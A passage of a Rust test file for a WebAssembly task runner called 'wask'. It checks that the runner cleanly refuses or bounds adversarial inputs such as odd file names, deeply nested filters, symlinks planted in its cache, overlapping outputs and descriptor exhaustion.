    let (run, record) = run_task(&ws, "p:t", &[]);
    run.expect_code(0);
    assert_eq!(record["source"], "cache");
    assert_eq!(ws.read("out/r.out"), b"AAAA\n");
}

// ---- 13. Names that never cache or collide ------------------------------------------

/// Class 13: one path rule at collection, staging and restore. A file the task names with
/// a newline is refused when collected (not stored, then refused at every restore), two
/// input names that are not UTF-8 are refused (not made lossy into one), and a path too
/// long to keep is said in words.
#[test]
fn names_wask_cannot_keep_are_refused_the_same_way_everywhere() {
    let ws = workspace(&format!(
        "{}{}",
        hostile("odd", &["odd-name:/odd"], "outputs = [\"odd/**\"]"),
        hostile("deep", &["deep-path:/deep|25"], "outputs = [\"deep/**\"]")
    ));
    for _ in 0..2 {
        let (run, r) = run_task(&ws, "p:odd", &[]);
        fails_with(
            &run,
            &r,
            "which wask cannot keep: paths cannot contain control characters",
        );
        assert_eq!(entries(&ws), 0);
    }
    let (run, r) = run_task(&ws, "p:deep", &[]);
    assert_eq!(run.code(), 1, "{}", run.stderr());
    let error = r["error"].as_str().unwrap();
    assert!(!error.contains("IO error for operation"), "{error}");
    assert!(
        error.contains("paths are at most 4096 bytes")
            || error.contains("which wask could not read"),
        "{error}"
    );

    use std::os::unix::ffi::OsStrExt;
    let lossy = workspace(&hostile("read", &["ls:/in"], "inputs = [\"in/*.txt\"]"));
    std::fs::create_dir_all(lossy.path("in")).unwrap();
    for name in [&b"caf\xe9.txt"[..], b"caf\xe8.txt"] {
        std::fs::write(
            lossy.path("in").join(std::ffi::OsStr::from_bytes(name)),
            b"x",
        )
        .unwrap();
    }
    let (run, r) = run_task(&lossy, "p:read", &[]);
    fails_with(&run, &r, "has a name that is not valid UTF-8");
}

// ---- 14. Stack overflow in recursive parsers ----------------------------------------

/// Class 14: every entry point of the tag filter grammar refuses deep nesting with a
/// message and exit 2; none aborts.
#[test]
fn deep_filters_are_refused_not_a_crash() {
    let ws = workspace("[tasks.t]\nmodule = \"/tools/probe.wasm\"\n");
    let bangs = format!("{}a", "!".repeat(30_000));
    let parens = format!("{}a{}", "(".repeat(20_000), ")".repeat(20_000));
    for flag in ["--tags", "--projects", "--tasks"] {
        for filter in [&bangs, &parens] {
            let run = ws.wask(&["query", flag, filter]);
            assert_eq!(run.code(), 2, "{flag}");
            assert!(run.stderr().contains("more than 64 deep"), "{flag}");
            assert!(
                run.stderr().len() < 4096,
                "{flag}: {} bytes of error",
                run.stderr().len()
            );
        }
    }
    ws.write(
        "wask.toml",
        format!("[workspace]\n\n[overlays.o]\ntags = \"{parens}\"\n\n[project]\nname = \"p\"\n"),
    );
    let run = ws.wask(&["check"]);
    refused_at_load(&run, "more than 64 deep");
    assert!(
        run.stderr().len() < 8192,
        "{} bytes of error",
        run.stderr().len()
    );
}

// ---- More of the same classes ---------------------------------------------------------

/// A writer of the cache directory plants links where wask writes (`compiled/`,
/// `built/`): nothing is written through them, and the runs still work.
#[test]
fn links_planted_in_the_cache_never_redirect_wasks_writes() {
    let ws = workspace(&format!(
        "{}{}",
        module_task("fresh", ""),
        "[tasks.built]\nmodule = { crate = \"/plugins/g\" }\n"
    ));
    guest_crate(&ws, "plugins/g", "fn main() { println!(\"built\"); }\n");
    module(
        &ws,
        "fresh",
        "(memory (export \"memory\") 1) (global i32 (i32.const 7))",
    );
    run_task(&ws, "p:built", &[]).0.expect_code(0);
    run_task(&ws, "p:fresh", &[]).0.expect_code(0);
    let elsewhere = tempfile::tempdir().unwrap();
    for dir in ["compiled", "built"] {
        let path = ws.path(&format!(".wask/cache/{dir}"));
        std::fs::remove_dir_all(&path).unwrap();
        std::os::unix::fs::symlink(elsewhere.path(), &path).unwrap();
    }
    // A module never compiled before, and a crate changed since it was built.
    module(
        &ws,
        "fresh",
        "(memory (export \"memory\") 1) (global i32 (i32.const 8))",
    );
    run_task(&ws, "p:fresh", &[]).0.expect_code(0);
    ws.write(
        "plugins/g/src/main.rs",
        "fn main() { println!(\"rebuilt\"); }\n",
    );
    let (run, _) = run_task(&ws, "p:built", &[]);
    assert!(
        run.stdout().contains("[p:built] rebuilt"),
        "{}",
        run.stderr()
    );
    assert_eq!(
        std::fs::read_dir(elsewhere.path()).unwrap().count(),
        0,
        "wask wrote through a link planted in the cache"
    );
}

/// Two tasks whose output patterns can name the same file (not only two equal literal
/// outputs) are refused: they would race for it.
#[test]
fn outputs_of_two_tasks_that_can_meet_are_refused() {
    for (a, b) in [
        ("out/x.txt", "out/x.tx[t]"),
        ("out/**", "out/css/*.css"),
        ("out/*.txt", "out/{a,b}.txt"),
        // Second review: meet only on a name neither pattern spells out (`a.txt`).
        ("out/*.txt", "out/a.*"),
        ("out/*/x.css", "out/a*/*.css"),
    ] {
        let ws = workspace(&format!(
            "{}{}",
            hostile("a", &[], &format!("outputs = [{}]", toml_string(a))),
            hostile("b", &[], &format!("outputs = [{}]", toml_string(b)))
        ));
        refused_at_load(&ws.wask(&["check"]), "can name the same file");
    }
    // Decided exactly, not by a guess that refuses too much: these can never meet.
    for (a, b) in [("out/*.md", "out/x*.txt"), ("out/*", "out/*/x")] {
        let ws = workspace(&format!(
            "{}{}",
            hostile("a", &[], &format!("outputs = [{}]", toml_string(a))),
            hostile("b", &[], &format!("outputs = [{}]", toml_string(b)))
        ));
        ws.wask(&["check"]).expect_code(0);
    }
}

/// The access record is bounded: twenty thousand nested opens neither take the host's
/// memory nor its time, and no recorded path is longer than the path rule allows.
#[test]
fn the_access_record_is_bounded() {
    let ws = workspace(&hostile(
        "t",
        &["nest-open:/out/n|20000", "write:/out/r.out"],
        "outputs = [\"out/*.out\"]",
    ));
    let (run, r) = run_task(&ws, "p:t", &[]);
    assert_eq!(r["state"], "succeeded", "{}{}", run.stdout(), run.stderr());
    assert!(
        run.stdout().contains("nest-open: 20000 nested opens"),
        "{}",
        run.stdout()
    );
    let manifest = walkdir::WalkDir::new(ws.path(".wask/cache"))
        .into_iter()
        .flatten()
        .find(|e| e.file_name() == "manifest.json")
        .unwrap();
    let m: serde_json::Value =
        serde_json::from_slice(&std::fs::read(manifest.path()).unwrap()).unwrap();
    // The undeclared paths it reached for are kept with the entry: bounded in number
    // and in length, though the guest named 20,000 of them, each longer than the last.
    let refused = m["access"]["refused"].as_array().unwrap();
    assert!(
        refused.len() > 1000,
        "{} refused paths recorded",
        refused.len()
    );
    assert!(
        refused.len() <= 10_000,
        "{} refused paths recorded",
        refused.len()
    );
    assert!(refused.iter().all(|p| p.as_str().unwrap().len() <= 4096));
    assert!(std::fs::metadata(manifest.path()).unwrap().len() < 16 << 20);
}

/// A task cannot hold the host's descriptors without end: past its share it is told
/// "too many open files", and the run carries on.
#[test]
fn open_descriptors_are_bounded_per_task() {
    let ws = workspace(&hostile(
        "t",
        &["open-many:/in/a.txt|5000", "write:/out/r.out"],
        "inputs = [\"in/a.txt\"]\noutputs = [\"out/*.out\"]",
    ));
    ws.write("in/a.txt", "x");
    let (run, r) = run_task(&ws, "p:t", &[]);
    assert_eq!(r["state"], "succeeded", "{}", run.stderr());
    let line = lines_of(&run.stdout(), "p:t")
        .into_iter()
        .find(|l| l.contains("open-many"))
        .unwrap()
        .to_string();
    let held: usize = line
        .split("open-many: ")
        .nth(1)
        .and_then(|s| s.split(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap();
    assert_eq!(held, 1024, "{line}");
    assert!(line.contains("(os error 33)"), "EMFILE: {line}");
}

/// A load error on a huge line shows where it is and what is around it, not the line.
#[test]
fn a_load_error_on_a_huge_line_is_shown_in_a_few_lines() {
    let ws = Ws::new();
    ws.write(
        "wask.toml",
        format!(
            "[workspace]\n\n[project]\nname = \"p\"\nnope = \"{}\"\n",
            "x".repeat(400_000)
        ),
    );
    let run = ws.wask(&["check"]);
    refused_at_load(&run, "wask.toml:5:1");
    assert!(
        run.stderr().len() < 4096,
        "{} bytes of error",
        run.stderr().len()
    );
}
